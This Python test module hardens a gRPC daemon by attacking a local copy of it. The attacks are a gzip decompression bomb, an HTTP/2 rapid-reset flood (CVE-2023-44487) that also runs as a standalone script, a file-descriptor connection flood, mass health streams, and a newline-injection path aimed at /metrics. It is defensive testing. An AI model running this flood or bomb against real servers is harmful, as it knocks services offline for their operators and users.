"""Attacks on sluiced that need no token (issue 13, docs/hardening.md "Attacks without a token"):
a gzip bomb, an HTTP/2 rapid-reset flood, a connection flood up to the fd limit, health Watch
streams by the thousand, and method paths made to inject series into /metrics. The real daemon
on 127.0.0.1 with port 0, attacked over raw HTTP/2 (written here on sockets, with Debian's
python3-hpack for header blocks) and grpcio. Each test is bounded in time.

Run as a script, the module is the rapid-reset attacker that the flood test and
tests/bench/attack_bench.py start in subprocesses:
    python3 test_attacks.py rapid-reset ADDR SECONDS [PATH] [SOURCE_ADDRESS]
"""
import collections
import os
import re
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import urllib.request
import zlib

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
UPLOAD = "/sluice.v1.Checkpoints/UploadShard"
# Under ASan the daemon is several times slower and keeps freed memory in quarantine (256 MiB):
# the flood test then checks that it survives and answers, with wider bounds.
SANITIZED = os.environ.get("SLUICE_SANITIZE", "") != ""


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid) + payload


def header_block(path, extra=()):
    """A request header block that is the same bytes for every stream (never-indexed literals
    leave the HPACK dynamic table alone)."""
    hdrs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "sluice"),
            ("content-type", "application/grpc"), ("te", "trailers")] + list(extra)
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in hdrs])


class H2:
    """A bare HTTP/2 client connection: whatever grpcio would refuse to send (a gzip bomb with its
    own framing, a path with a newline, streams reset at once). A reader thread answers SETTINGS
    and PING, tracks flow-control windows and collects each stream's headers and data."""

    def __init__(self, addr, source=None, timeout=10, connect_timeout=None):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=connect_timeout or timeout,
                                             source_address=(source, 0) if source else None)
        self.sock.settimeout(timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.cv = threading.Condition()
        self.streams = {}
        self.next_id = 1
        self.conn_window = self.initial_window = 65535
        self.windows = {}
        self.closed = False
        self.goaway = None  # (last stream id, error code, monotonic time) of a GOAWAY received
        self.dec = hpack.Decoder()
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read, daemon=True).start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _recv(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def _read(self):
        try:
            while True:
                h = self._recv(9)
                n = int.from_bytes(h[:3], "big")
                ftype, flags, sid = h[3], h[4], struct.unpack(">I", h[5:9])[0] & 0x7FFFFFFF
                p = self._recv(n) if n else b""
                self._frame(ftype, flags, sid, p)
        except (EOFError, OSError):
            pass
        with self.cv:
            self.closed = True
            self.cv.notify_all()

    def _frame(self, ftype, flags, sid, p):
        with self.cv:
            st = self.streams.get(sid)
            if ftype == SETTINGS and not flags & ACK:
                for i in range(0, len(p) - 5, 6):
                    k, v = struct.unpack(">HI", p[i:i + 6])
                    if k == 4:
                        for s in self.windows:
                            self.windows[s] += v - self.initial_window
                        self.initial_window = v
                self.send(frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, p))
            elif ftype == WINDOW_UPDATE:
                inc = struct.unpack(">I", p)[0] & 0x7FFFFFFF
                if sid == 0:
                    self.conn_window += inc
                elif sid in self.windows:
                    self.windows[sid] += inc
            elif ftype == HEADERS:
                hdrs = self.dec.decode(p)
                if st is not None:
                    st["headers"] += hdrs
            elif ftype == DATA and st is not None:
                st["data"] += p
                if p:
                    self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(p))) +
                              frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", len(p))))
            elif ftype == RST_STREAM and st is not None:
                st["rst"] = struct.unpack(">I", p)[0]
            elif ftype == GOAWAY and self.goaway is None:
                last, code = struct.unpack(">II", p[:8])
                self.goaway = (last & 0x7FFFFFFF, code, time.monotonic())
            if st is not None and (flags & END_STREAM or ftype == RST_STREAM) and \
                    ftype in (HEADERS, DATA, RST_STREAM):
                st["ended"] = True
            self.cv.notify_all()

    def call(self, path, message=None, compressed=False, extra=(), reset=False,
             open_stream=False):
        """Start a call: headers, then (if given) one gRPC message and the end of stream; with
        reset, a RST_STREAM right behind the headers; with open_stream, the headers only (the
        stream stays open). Returns the stream id."""
        sid = self.next_id
        self.next_id += 2
        with self.cv:
            self.streams[sid] = {"headers": [], "data": b"", "ended": False}
            self.windows[sid] = self.initial_window
        end = message is None and not reset and not open_stream
        out = frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), sid,
                    header_block(path, extra))
        if reset:
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
        self.send(out)
        if message is not None:
            self._data(sid, struct.pack(">BI", 1 if compressed else 0, len(message)) + message)
        return sid

    def _data(self, sid, body):
        i = 0
        while i < len(body):
            with self.cv:
                deadline = time.monotonic() + 30
                while min(self.conn_window, self.windows[sid]) <= 0:
                    if self.closed or self.streams[sid]["ended"] or time.monotonic() > deadline:
                        return
                    self.cv.wait(0.5)
                n = min(16384, len(body) - i, self.conn_window, self.windows[sid])
                self.conn_window -= n
                self.windows[sid] -= n
            self.send(frame(DATA, END_STREAM if i + n >= len(body) else 0, sid, body[i:i + n]))
            i += n

    def wait(self, sid, timeout=30):
        """The stream's state once it ended (or the timeout passed): headers, data, ended."""
        deadline = time.monotonic() + timeout
        with self.cv:
            while not self.streams[sid]["ended"] and not self.closed:
                if not self.cv.wait(max(0.0, deadline - time.monotonic())):
                    break
            return self.streams[sid]

    def status(self, sid, timeout=30):
        """(grpc-status, grpc-message) of a finished call, or None."""
        hdrs = dict(self.wait(sid, timeout)["headers"])
        if "grpc-status" not in hdrs:
            return None
        return int(hdrs["grpc-status"]), urllib.request.unquote(hdrs.get("grpc-message", ""))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(addr, seconds, path=UPLOAD, source="127.0.0.2", batch=200):
    """HEADERS + RST_STREAM pairs as fast as this process writes them, reconnecting whenever the
    daemon closes the connection, for `seconds`. Frames are prebuilt; a reader thread answers
    SETTINGS and PING (queued: the writer may be blocked in sendall). Returns (pairs, connections)."""
    block = header_block(path)
    rst = struct.pack(">I", CANCEL)
    end = time.monotonic() + seconds
    pairs = conns = 0
    while time.monotonic() < end:
        try:
            host, port = addr.rsplit(":", 1)
            sock = socket.create_connection((host, int(port)), timeout=1,
                                            source_address=(source, 0))
        except OSError:
            time.sleep(0.05)  # refused, or blocked by the daemon: try again
            continue
        conns += 1
        sock.settimeout(1)
        acks = collections.deque()
        done = threading.Event()

        def reader():
            buf = b""
            try:
                while not done.is_set():
                    d = sock.recv(65536)
                    if not d:
                        break
                    buf += d
                    while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                        n = int.from_bytes(buf[:3], "big")
                        t, fl, p = buf[3], buf[4], buf[9:9 + n]
                        buf = buf[9 + n:]
                        if t == SETTINGS and not fl & ACK:
                            acks.append(frame(SETTINGS, ACK, 0))
                        elif t == PING and not fl & ACK:
                            acks.append(frame(PING, ACK, 0, p))
            except OSError:
                pass
            done.set()

        threading.Thread(target=reader, daemon=True).start()
        sid = 1
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            while time.monotonic() < end and not done.is_set():
                out = []
                while acks:
                    out.append(acks.popleft())
                for _ in range(batch):
                    out.append(frame(HEADERS, END_HEADERS, sid, block))
                    out.append(frame(RST_STREAM, 0, sid, rst))
                    sid += 2
                sock.sendall(b"".join(out))
                pairs += batch
        except OSError:
            pass
        done.set()
        sock.close()
    return pairs, conns


def rss_mib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024.0
    return 0.0


def percentile(sorted_values, q):
    if not sorted_values:
        return float("nan")
    return sorted_values[min(len(sorted_values) - 1, int(q * len(sorted_values)))]


class Flood:
    """Three (or n) rapid-reset attackers in subprocesses, each on its own connection from
    `source`, while a grpcio client on 127.0.0.1 calls Health.Check every 0.1 s (deadline
    `check_deadline`) and the daemon's RSS is sampled every 0.1 s."""

    def __init__(self, daemon, seconds, conns=3, path=UPLOAD, source="127.0.0.2",
                 check_deadline=1.0):
        import grpc
        from sluice._health import health_pb2 as hp
        self.d, self.seconds, self.conns, self.path, self.source = daemon, seconds, conns, path, source
        self.rss, self.latency, self.check_errors, self.attackers = [], [], [], []
        self.stop = threading.Event()
        self.ch = grpc.insecure_channel(daemon.addr)
        self.check = self.ch.unary_unary("/grpc.health.v1.Health/Check",
                                         request_serializer=hp.HealthCheckRequest.SerializeToString,
                                         response_deserializer=hp.HealthCheckResponse.FromString)
        self.hp, self.grpc, self.check_deadline = hp, grpc, check_deadline
        self.check(hp.HealthCheckRequest(), timeout=10)

    def _sample(self):
        while not self.stop.is_set():
            try:
                self.rss.append(rss_mib(self.d.proc.pid))
            except OSError:
                pass
            time.sleep(0.1)

    def _checker(self):
        while not self.stop.is_set():
            t0 = time.monotonic()
            try:
                r = self.check(self.hp.HealthCheckRequest(), timeout=self.check_deadline)
                if r.status != self.hp.HealthCheckResponse.SERVING:
                    self.check_errors.append("status %d" % r.status)
            except self.grpc.RpcError as e:
                self.check_errors.append("%s %s" % (e.code(), e.details()))
            self.latency.append(time.monotonic() - t0)
            time.sleep(max(0.0, 0.1 - (time.monotonic() - t0)))

    def run(self):
        me = os.path.abspath(__file__)
        self.attackers = [subprocess.Popen(
            [sys.executable, me, "rapid-reset", self.d.addr, str(self.seconds), self.path,
             self.source], stdout=subprocess.PIPE, text=True) for _ in range(self.conns)]
        threads = [threading.Thread(target=self._sample), threading.Thread(target=self._checker)]
        for t in threads:
            t.start()
        out = []
        try:
            for p in self.attackers:
                try:
                    out.append(p.communicate(timeout=self.seconds + 30)[0])
                except subprocess.TimeoutExpired:
                    p.kill()
                    out.append(p.communicate()[0])
        finally:
            self.stop.set()
            for t in threads:
                t.join()
            self.ch.close()
        self.pairs = sum(int(o.split()[0]) for o in out if o.strip())
        self.connections = sum(int(o.split()[1]) for o in out if o.strip())
        return self


class Base(unittest.TestCase):
    ARGS = []
    ENV = {}

    def setUp(self):
        from sltest import Daemon
        self.d = Daemon(args=["--metrics-listen", "127.0.0.1:0"] + self.ARGS, env=self.ENV).start()

    def tearDown(self):
        rc = self.d.stop()
        reports = self.d.sanitizer_reports()
        log = self.d.log()
        self.d.cleanup()
        self.assertEqual(rc, 0, "sluiced exit code\n" + log[-6000:])
        self.assertEqual(reports, [], "sanitizer reports\n" + log[-6000:])

    def metrics(self):
        deadline = time.monotonic() + 20
        while not re.search(r"event=metrics_listening .*port=(\d+)", self.d.log()):
            self.assertLess(time.monotonic(), deadline, "no metrics endpoint")
            time.sleep(0.02)
        port = re.search(r"event=metrics_listening .*port=(\d+)", self.d.log()).group(1)
        with urllib.request.urlopen("http://127.0.0.1:%s/metrics" % port, timeout=10) as r:
            return r.read().decode()

    def counter(self, text, series):
        m = re.search(r"^%s (\S+)$" % re.escape(series), text, re.M)
        return float(m.group(1)) if m else 0.0

    def channel(self):
        import grpc
        ch = grpc.insecure_channel(self.d.addr)
        self.addCleanup(ch.close)
        return ch

    def get_info(self, ch=None, token=None):
        md = [("authorization", "Bearer " + token)] if token else None
        return (ch or self.channel()).unary_unary("/sluice.v1.Admin/GetInfo")(
            b"", timeout=10, metadata=md)

    def health(self, ch=None):
        from sluice._health import health_pb2 as hp
        r = (ch or self.channel()).unary_unary("/grpc.health.v1.Health/Check")(
            hp.HealthCheckRequest().SerializeToString(), timeout=10)
        return hp.HealthCheckResponse.FromString(r).status


class CompressionBombTest(Base):
    """One gzip-compressed message inflating to 512 MiB (about 0.5 MiB on the wire) used to be
    inflated in full by gRPC 1.51 before the 8 MiB message limit applied (RSS 20 MB -> 563 MB)."""

    def bomb(self, mib):
        z = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip framing
        zeros = b"\0" * (1 << 20)
        return z.compress(b"\x0a\x80\x80\x80\x80\x02") + b"".join(
            z.compress(zeros) for _ in range(mib)) + z.flush()

    def test_gzip_bomb_refused_before_inflating(self):
        bomb = self.bomb(512)
        self.assertLess(len(bomb), 1 << 20)
        before = rss_mib(self.d.proc.pid)
        peak = [before]
        stop = threading.Event()

        def sample():
            while not stop.is_set():
                peak.append(rss_mib(self.d.proc.pid))
                time.sleep(0.02)
        t = threading.Thread(target=sample)
        t.start()
        try:
            for path in ("/grpc.health.v1.Health/Check", "/sluice.v1.Admin/GetInfo", UPLOAD):
                h = H2(self.d.addr)
                sid = h.call(path, bomb, compressed=True, extra=[("grpc-encoding", "gzip")])
                st = h.status(sid)
                h.close()
                self.assertIsNotNone(st, path)
                # UNIMPLEMENTED "Compression algorithm 'gzip' is disabled." from the core.
                self.assertEqual(st[0], 12, (path, st))
                self.assertIn("gzip", st[1])
        finally:
            stop.set()
            t.join()
        self.assertLess(max(peak) - before, 64, "RSS grew from %.0f to %.0f MiB" % (before, max(peak)))
        self.assertEqual(self.health(), 1)
        self.get_info()

    def test_grpcio_gzip_channel(self):
        import grpc
        ch = grpc.insecure_channel(self.d.addr, compression=grpc.Compression.Gzip)
        self.addCleanup(ch.close)
        with self.assertRaises(grpc.RpcError) as e:
            ch.unary_unary("/sluice.v1.Admin/GetInfo")(b"\x08\x01" * 4096, timeout=10)
        self.assertEqual(e.exception.code(), grpc.StatusCode.UNIMPLEMENTED, e.exception.details())
        self.assertIn("gzip", e.exception.details())
        self.get_info()  # an identity channel is served as before


class RapidResetTest(Base):
    """HTTP/2 rapid reset (CVE-2023-44487) on UploadShard from 3 connections of another address,
    reconnecting whenever cut: before, RSS grew ~180 MB/s and health checks stopped answering.
    The daemon must keep its RSS under 256 MiB and answer Check within 1 s throughout."""
    SECONDS = 8 if SANITIZED else 15
    RSS_MAX = 1024 if SANITIZED else 256
    CHECK_MAX = 3.0 if SANITIZED else 1.0

    def test_flood_keeps_memory_and_health(self):
        f = Flood(self.d, self.SECONDS, check_deadline=self.CHECK_MAX).run()
        lat = sorted(f.latency)
        print("\n  rapid reset %d s: %d pairs over %d connections; RSS max %.0f MiB, median %.0f; "
              "Check p50 %.1f ms, p99 %.1f ms, max %.1f ms (%d checks)" % (
                  self.SECONDS, f.pairs, f.connections, max(f.rss), percentile(sorted(f.rss), 0.5),
                  1000 * percentile(lat, 0.5), 1000 * percentile(lat, 0.99), 1000 * lat[-1],
                  len(lat)), file=sys.stderr)
        self.assertGreater(f.pairs, 10000, "the attackers did not get going")
        self.assertEqual(f.check_errors, [])
        self.assertLess(lat[-1], self.CHECK_MAX)
        self.assertLess(max(f.rss), self.RSS_MAX)
        text = self.metrics()
        self.assertGreater(self.counter(text, 'sluice_rpc_dropped_total{reason="reset"}'), 100)
        self.assertGreaterEqual(self.counter(text, "sluice_rpc_flood_connections_closed_total"), 1)
        self.assertIn("event=rpc_flood", self.d.log())
        # Nothing reached a handler, nothing is left, and 127.0.0.1 is served as before.
        self.assertEqual(self.counter(text, "sluice_rpc_pending_calls"), 0)
        self.assertNotIn('method="/sluice.v1.Checkpoints/UploadShard"', text)
        self.get_info()


class HealthBudgetTest(Base):
    """Token-less health Watch streams used to count against --max-calls: enough of them and
    every authenticated call was refused while Check still said SERVING."""
    ARGS = ["--max-calls", "8"]

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="sluice-attacks-")
        path = os.path.join(self.tmp, "tokens")
        with open(path, "w") as f:
            f.write("admin " + "a" * 32 + "\n")
        os.chmod(path, 0o600)
        self.ARGS = self.ARGS + ["--token-file", path]
        super().setUp()

    def tearDown(self):
        super().tearDown()
        shutil.rmtree(self.tmp)

    def test_watch_streams_have_their_own_budget(self):
        import grpc
        from sluice._health import health_pb2 as hp
        ch = self.channel()
        watch = ch.unary_stream("/grpc.health.v1.Health/Watch")
        req = hp.HealthCheckRequest().SerializeToString()
        held = []
        for _ in range(64):
            it = watch(req, timeout=60)
            self.assertEqual(hp.HealthCheckResponse.FromString(next(it)).status, 1)
            held.append(it)
        # The 65th Watch is refused by the health budget, not by --max-calls 8.
        with self.assertRaises(grpc.RpcError) as e:
            next(watch(req, timeout=30))
        self.assertEqual(e.exception.code(), grpc.StatusCode.RESOURCE_EXHAUSTED)
        self.assertIn("too many concurrent streams of grpc.health.v1.Health (limit 64)",
                      e.exception.details())
        # Authenticated calls still have all of --max-calls, Check still answers.
        for _ in range(3):
            self.get_info(token="a" * 32)
        self.assertEqual(self.health(), 1)
        self.assertGreaterEqual(self.counter(self.metrics(), 'sluice_rpc_refused_total{limit="health"}'), 1)
        for it in held:
            it.cancel()


class PeerLimitTest(Base):
    """--max-peer-calls: one client address cannot hold every call slot."""
    ARGS = ["--max-peer-calls", "4"]

    def test_one_address_is_capped_others_are_not(self):
        import grpc
        ch = self.channel()
        # Four UploadShard calls that sent their header and nothing more hold four slots.
        held = []
        for _ in range(4):
            h = H2(self.d.addr)
            h.call(UPLOAD, open_stream=True)
            held.append(h)
        deadline = time.monotonic() + 30
        while self.counter(self.metrics(), "sluice_rpc_pending_calls") < 4:
            self.assertLess(time.monotonic(), deadline, "the held calls did not arrive")
            time.sleep(0.05)
        with self.assertRaises(grpc.RpcError) as e:
            self.get_info(ch)
        self.assertEqual(e.exception.code(), grpc.StatusCode.RESOURCE_EXHAUSTED)
        self.assertIn("too many concurrent calls from ipv4:127.0.0.1 (limit 4)",
                      e.exception.details())
        self.assertEqual(self.health(ch), 1)  # health is apart
        # Another address is served.
        h2 = H2(self.d.addr, source="127.0.0.3")
        sid = h2.call("/sluice.v1.Admin/GetInfo", b"")
        self.assertEqual(h2.status(sid)[0], 0)
        h2.close()
        for h in held:
            h.close()
        deadline = time.monotonic() + 20
        while True:
            try:
                self.get_info(ch)
                break
            except grpc.RpcError:
                self.assertLess(time.monotonic(), deadline)
                time.sleep(0.05)
        self.assertGreaterEqual(self.counter(self.metrics(),
                                             'sluice_rpc_refused_total{limit="max_peer_calls"}'), 1)


class MetricsInjectionTest(Base):
    """A reset call to an unknown method whose :path held a quote and a newline injected a series
    into /metrics; 3,000 distinct paths filled the registry so that real methods stopped being
    counted."""

    def test_paths_cannot_inject_or_fill(self):
        evil = '/x"} 1\nsluice_fake_total{a="b'
        h = H2(self.d.addr)
        h.call(evil, reset=True)
        sid = h.call(evil, b"")
        self.assertEqual(h.status(sid)[0], 12)  # UNIMPLEMENTED, and the connection still works
        h.close()
        # 3,200 distinct unknown paths, reset, from 8 connections (400 each: fewer than the 500
        # junk calls a second that get a connection closed as a flood).
        for c in range(8):
            h = H2(self.d.addr)
            for i in range(400):
                h.call("/scan.v%d/M%d" % (c, i), reset=True)
            sid = h.call("/sluice.v1.Admin/GetInfo", b"")
            self.assertEqual(h.status(sid)[0], 0)
            h.close()
        self.get_info()
        # A call is counted when the daemon finishes it, which can be just after the client saw
        # its status: wait (bounded) for the nine GetInfo calls to show.
        get_info_ok = 'sluice_rpc_requests_total{method="/sluice.v1.Admin/GetInfo",code="OK"}'
        deadline = time.monotonic() + 10
        text = self.metrics()
        while self.counter(text, get_info_ok) < 9 and time.monotonic() < deadline:
            time.sleep(0.05)
            text = self.metrics()
        self.assertNotIn("sluice_fake_total", text)
        self.assertNotIn("/x", text)
        self.assertNotIn("scan.v", text)
        self.assertGreaterEqual(self.counter(
            text, 'sluice_rpc_requests_total{method="unknown",code="UNIMPLEMENTED"}'), 3202)
        self.assertGreaterEqual(self.counter(text, get_info_ok), 9)
        self.assertEqual(self.counter(text, "sluice_metrics_series_dropped_total"), 0)
        for line in text.splitlines():
            self.assertRegex(line, r'^(# (HELP|TYPE) \w+ .*|\w+(\{(\w+="[^"\\\n]*",?)*\})? \S+)$')
        promtool = shutil.which("promtool")
        if promtool:
            r = subprocess.run([promtool, "check", "metrics"], input=text, capture_output=True,
                               text=True, timeout=30)
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)


class IdleConnectionTest(Base):
    """--max-connection-idle: a connection that makes no call is closed (it used to stay open for
    good, an fd held by anyone who connects)."""
    ARGS = ["--max-connection-idle", "0.5"]

    def test_idle_connection_is_closed(self):
        h = H2(self.d.addr)
        sid = h.call("/sluice.v1.Admin/GetInfo", b"")
        self.assertEqual(h.status(sid)[0], 0)
        deadline = time.monotonic() + 15
        with h.cv:
            while not h.closed and time.monotonic() < deadline:
                h.cv.wait(0.2)
        self.assertTrue(h.closed, "the idle connection is still open")
        h.close()


def own_connections(port):
    """Inodes of this process's established TCP connections to 127.0.0.1:port."""
    mine = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            t = os.readlink("/proc/self/fd/" + fd)
        except OSError:
            continue
        if t.startswith("socket:["):
            mine.add(t[8:-1])
    out = set()
    # grpcio's sockets are IPv6 ones with v4-mapped addresses (tcp6).
    remotes = ("0100007F:%04X" % port, "0000000000000000FFFF00000100007F:%04X" % port)
    for table in ("/proc/self/net/tcp", "/proc/self/net/tcp6"):
        with open(table) as f:
            for line in f.readlines()[1:]:
                cols = line.split()
                if cols[3] == "01" and cols[2] in remotes and cols[9] in mine:
                    out.add(cols[9])
    return out


class MaxConnectionAgeTest(Base):
    """--max-connection-age: a connection that keeps making calls (so never idle) is still asked
    to go after the configured age (GOAWAY, error NO_ERROR) and closed once its calls finished;
    a grpcio channel reconnects by itself, and no call fails."""
    ARGS = ["--max-connection-age", "1"]

    def test_busy_connection_is_closed_after_its_age(self):
        h = H2(self.d.addr)
        self.addCleanup(h.close)
        t0 = time.monotonic()
        calls = 0
        while h.goaway is None and not h.closed and time.monotonic() < t0 + 15:
            sid = h.call("/sluice.v1.Admin/GetInfo", b"")
            st = h.status(sid, timeout=10)
            if h.goaway is None:
                self.assertEqual(st and st[0], 0, st)
                calls += 1
            time.sleep(0.05)
        self.assertIsNotNone(h.goaway, "no GOAWAY after %d calls in 15 s" % calls)
        last, code, when = h.goaway
        self.assertEqual(code, 0)  # NO_ERROR: a graceful goodbye
        # The age (1 s, jittered by gRPC up to 10 % either way), not idleness: calls all along.
        self.assertGreaterEqual(when - t0, 0.85)
        self.assertLess(when - t0, 5.0)
        self.assertGreaterEqual(calls, 10)
        with h.cv:
            deadline = time.monotonic() + 10
            while not h.closed and time.monotonic() < deadline:
                h.cv.wait(0.2)
        self.assertTrue(h.closed, "the connection is still open after its GOAWAY")

    def test_grpcio_reconnects_without_failing_a_call(self):
        ch = self.channel()
        port = int(self.d.addr.rsplit(":", 1)[1])
        seen, calls = set(), 0
        t0 = time.monotonic()
        while time.monotonic() < t0 + 4.5:
            self.get_info(ch)  # raises on any failure
            calls += 1
            seen |= own_connections(port)
            time.sleep(0.02)
        # 4.5 s at 1 s each: at least 3 connections one after the other, never a failed call.
        self.assertGreaterEqual(len(seen), 3, "%d calls over %d connections" % (calls, len(seen)))


class FdFloodTest(unittest.TestCase):
    """Connections up to the fd limit: gRPC 1.51 logs "Failed accept4: Too many open files" and
    never accepts again, even once every connection closed. The daemon raises its soft fd limit
    to the hard one at start, and when its self-check (a connection to itself) gets no answer 3
    times in a row it reports NOT_SERVING, asks systemd for a restart (WATCHDOG=trigger) and stops
    feeding the watchdog. Run with soft 64 / hard 160 fds and a test-owned notify socket."""

    def test_flood_to_fd_limit(self):
        import grpc
        from sltest import Daemon
        tmp = tempfile.mkdtemp(prefix="sluice-fdflood-")
        path = os.path.join(tmp, "notify.sock")
        notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        notify.bind(path)
        notify.settimeout(0.2)
        msgs = []
        stop = threading.Event()

        def listen():
            while not stop.is_set():
                try:
                    msgs.append((time.monotonic(), notify.recv(4096).decode()))
                except socket.timeout:
                    pass
        t = threading.Thread(target=listen)
        t.start()
        d = Daemon(args=["--self-check-interval", "0.3", "--metrics-listen", "127.0.0.1:0"],
                   env={"NOTIFY_SOCKET": path, "WATCHDOG_USEC": "400000"})
        real_popen = subprocess.Popen

        def limited(*a, **kw):
            kw["preexec_fn"] = lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (64, 160))
            return real_popen(*a, **kw)
        subprocess.Popen = limited
        try:
            d.start()
        finally:
            subprocess.Popen = real_popen
        flood = []
        try:
            self.assertIn("event=fd_limit_raised from=64 to=160", d.log())
            ch = grpc.insecure_channel(d.addr)  # a connection made before the flood
            check = ch.unary_unary("/grpc.health.v1.Health/Check")
            self.assertEqual(check(b"", timeout=10), b"\x08\x01")
            for _ in range(400):
                try:
                    flood.append(socket.create_connection(("127.0.0.1", d.port), timeout=2))
                except OSError:
                    break
            deadline = time.monotonic() + 20
            while "Failed accept4" not in d.log() and time.monotonic() < deadline:
                time.sleep(0.05)
            for s in flood:
                s.close()
            flood = []
            # Either the listener accepts again, or the daemon says it is broken and stops the
            # watchdog; silence with pings going on is the defect.
            deadline = time.monotonic() + 30
            while "event=listener_broken" not in d.log() and time.monotonic() < deadline:
                try:
                    # A channel of its own: grpcio would otherwise share the connection made
                    # before the flood.
                    fresh = grpc.insecure_channel(d.addr,
                                                  options=[("grpc.use_local_subchannel_pool", 1)])
                    ok = fresh.unary_unary("/grpc.health.v1.Health/Check")(b"", timeout=1)
                    fresh.close()
                    if ok == b"\x08\x01" and "Failed accept4" in d.log():
                        break
                except grpc.RpcError:
                    fresh.close()
                time.sleep(0.1)
            log = d.log()
            if "Failed accept4" not in log:
                self.skipTest("the flood did not reach the fd limit")
            self.assertIn("event=listener_broken", log)
            self.assertIn("event=self_check_failed", log)
            broken_at = time.monotonic()
            time.sleep(1.5)
            # The connection made before the flood still works and reports NOT_SERVING.
            self.assertEqual(check(b"", timeout=10), b"\x08\x02")
            pings_after = [m for ts, m in msgs if m == "WATCHDOG=1" and ts > broken_at + 0.2]
            self.assertEqual(pings_after, [], "the watchdog was still fed")
            self.assertTrue(any(m.startswith("WATCHDOG=trigger") for _, m in msgs), msgs[-5:])
            ch.close()
            port = re.search(r"event=metrics_listening .*port=(\d+)", log).group(1)
            with urllib.request.urlopen("http://127.0.0.1:%s/metrics" % port, timeout=10) as r:
                text = r.read().decode()
            self.assertIn("sluice_listener_accepting 0", text)
            self.assertRegex(text, r"\nsluice_self_check_failures_total ([3-9]|[1-9]\d+)\n")
        finally:
            for s in flood:
                s.close()
            stop.set()
            t.join()
            notify.close()
            rc = d.stop()
            log = d.log()
            d.cleanup()
            shutil.rmtree(tmp)
        self.assertEqual(rc, 0, log[-4000:])


if __name__ == "__main__":
    if len(sys.argv) >= 4 and sys.argv[1] == "rapid-reset":
        pairs, conns = rapid_reset(sys.argv[2], float(sys.argv[3]), *sys.argv[4:6])
        print(pairs, conns)
    else:
        unittest.main()
